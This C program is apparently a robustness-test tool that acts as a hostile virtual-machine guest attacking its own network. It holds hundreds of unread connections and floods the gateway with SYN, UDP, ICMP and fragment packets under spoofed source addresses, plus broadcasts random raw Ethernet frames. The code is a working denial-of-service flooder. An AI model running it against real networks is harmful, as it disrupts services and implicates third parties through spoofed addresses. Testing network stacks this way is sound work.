// A guest that means harm to its network: it floods with half-open connections, datagrams, echoes and fragments, under its
// own address and others', sends noise of all kinds, and holds connections that it never reads.
//
//   hostile SECONDS ADDRESS PORT INTERFACE
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t state = 0x9e3779b97f4a7c15;

static uint64_t rnd(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static void fail(const char *what)
{
    printf("failed: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint32_t sum(const uint8_t *bytes, int length, uint32_t so_far)
{
    for (int i = 0; i + 1 < length; i += 2)
        so_far += bytes[i] << 8 | bytes[i + 1];
    if (length & 1)
        so_far += bytes[length - 1] << 8;
    return so_far;
}

static void put16(uint8_t *at, uint32_t value)
{
    at[0] = value >> 8;
    at[1] = value;
}

static uint32_t folded(uint32_t s)
{
    s = (s & 0xffff) + (s >> 16);
    s = (s & 0xffff) + (s >> 16);
    return ~s & 0xffff;
}

static uint8_t packet[1500];

// A header in front of what is at packet + 20; the kernel finishes its checksum and length.
static void header(uint32_t from, uint32_t to, int protocol, int length, int fragment)
{
    memset(packet, 0, 20);
    packet[0] = 0x45;
    put16(packet + 2, 20 + length);
    put16(packet + 4, rnd());
    put16(packet + 6, fragment);
    packet[8] = 64;
    packet[9] = protocol;
    memcpy(packet + 12, &from, 4);
    memcpy(packet + 16, &to, 4);
}

static void checksum(int protocol, int length, int at)
{
    put16(packet + 20 + at, 0);
    uint32_t s = sum(packet + 20, length, sum(packet + 12, 8, protocol + length));
    put16(packet + 20 + at, folded(s));
}

int main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    int seconds = atoi(argv[1]), port = atoi(argv[3]);
    struct sockaddr_in gateway = { .sin_family = AF_INET, .sin_port = htons(port) };
    if (inet_pton(AF_INET, argv[2], &gateway.sin_addr) != 1)
        fail("the address");
    uint32_t to = gateway.sin_addr.s_addr;

    // Who never reads.
    static int all[800];
    int held = 0;
    for (int i = 0; i < 800; i++) {
        int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (s < 0)
            break;
        int small = 4096;
        setsockopt(s, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
        connect(s, (struct sockaddr *)&gateway, sizeof gateway);
        all[held++] = s;
    }

    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    int wire = socket(AF_PACKET, SOCK_RAW, 0);
    if (raw < 0 || wire < 0)
        fail("raw sockets");
    // A server sends them all it has when they have asked for it.
    sleep(1);
    for (int i = 0; i < held; i++)
        if (send(all[i], "GET / HTTP/1.0\r\n\r\n", 18, MSG_DONTWAIT | MSG_NOSIGNAL) < 0)
            continue;
    struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[4]) };
    uint64_t sent = 0, refused = 0;
    time_t end = time(NULL) + seconds;
    while (time(NULL) < end) {
        for (int i = 0; i < 200; i++) {
            uint8_t *data = packet + 20;
            // Its own address, a neighbour's, the gateway's, or anybody's.
            uint32_t from;
            switch (rnd() % 4) {
            case 0: from = htonl(0x0a00020f); break;
            case 1: from = htonl(0x0a000200 | (rnd() & 0xff)); break;
            case 2: from = to; break;
            default: from = rnd();
            }
            int length = 0;
            switch (rnd() % 5) {
            case 0: // A connection, half open.
                length = 20;
                memset(data, 0, length);
                put16(data, rnd());
                put16(data + 2, port);
                put16(data + 4, rnd());
                data[12] = 5 << 4;
                data[13] = 2;
                put16(data + 14, 0xffff);
                header(from, to, 6, length, 0);
                checksum(6, length, 16);
                break;
            case 1: // A datagram to any port.
                length = 8 + rnd() % 1400;
                put16(data, rnd());
                put16(data + 2, rnd() | 0x8000);
                put16(data + 4, length);
                header(from, to, 17, length, 0);
                checksum(17, length, 6);
                break;
            case 2: // An echo.
                length = 64;
                data[0] = 8;
                data[1] = 0;
                put16(data + 2, 0);
                put16(data + 4, rnd());
                put16(data + 2, folded(sum(data, length, 0)));
                header(from, to, 1, length, 0);
                break;
            case 3: // A fragment of what never comes whole.
                length = 1480;
                header(from, to, 17, length, 0x2000 | (rnd() % 40 * 185));
                break;
            default: { // Noise by any protocol.
                static const uint16_t types[] = { 0x0800, 0x86dd, 0x0806, 0x88cc, 0x05dc };
                uint8_t frame[256];
                for (unsigned j = 0; j < sizeof frame; j += 8) {
                    uint64_t r = rnd();
                    memcpy(frame + j, &r, 8);
                }
                memset(frame, 0xff, 6);
                put16(frame + 12, types[rnd() % 5]);
                if (rnd() & 1)
                    frame[14] = rnd() & 1 ? 0x45 : 0x60;
                int ok = sendto(wire, frame, 14 + rnd() % 242, MSG_DONTWAIT, (void *)&link, sizeof link);
                ok < 0 ? refused++ : sent++;
                continue;
            }
            }
            int ok = sendto(raw, packet, 20 + length, MSG_DONTWAIT, (void *)&gateway, sizeof gateway);
            ok < 0 ? refused++ : sent++;
        }
    }
    printf("hostile: %d held, %llu sent, %llu refused\n", held, (unsigned long long)sent,
           (unsigned long long)refused);
    return 0;
}
